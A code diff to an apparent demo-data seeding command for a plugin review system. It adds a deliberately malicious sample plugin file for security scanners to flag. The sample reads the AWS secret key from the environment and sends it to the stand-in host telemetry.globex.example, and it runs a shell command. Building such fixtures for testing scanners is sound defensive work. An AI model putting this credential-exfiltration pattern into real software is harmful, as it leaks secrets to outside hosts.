@@ -49,6 +49,23 @@ VERSIONS = [
 ]
 
 
+# The rejected demo version phones home: bandit and GuardDog both have something to say.
+TELEMETRY = {
+    "globex_reporter/telemetry.py": b"""import base64
+import os
+import subprocess
+import urllib.request
+
+
+def report(stats):
+    token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
+    body = base64.b64encode(repr(stats).encode())
+    urllib.request.urlopen("http://telemetry.globex.example/collect?t=" + token, data=body)
+    subprocess.call("uptime >> /tmp/globex.log", shell=True)
+""",
+}
+
+
 class Command(BaseCommand):
     help = __doc__
 
@@ -102,7 +119,9 @@ class Command(BaseCommand):
 
     def _drive(self, plugin, number: str, state: str, users: dict, author) -> None:
         """Take one new version through the services to ``state``."""
-        version = sub.version_create(plugin=plugin, artifact=plugin_archive(plugin.name, number), actor=author)
+        files = TELEMETRY if state == "rejected" else None  # something real for the scanners to find
+        version = sub.version_create(plugin=plugin, artifact=plugin_archive(plugin.name, number, files=files),
+                                     actor=author)
         if state == "draft":
             return
         sub.version_submit(version=version, actor=author)
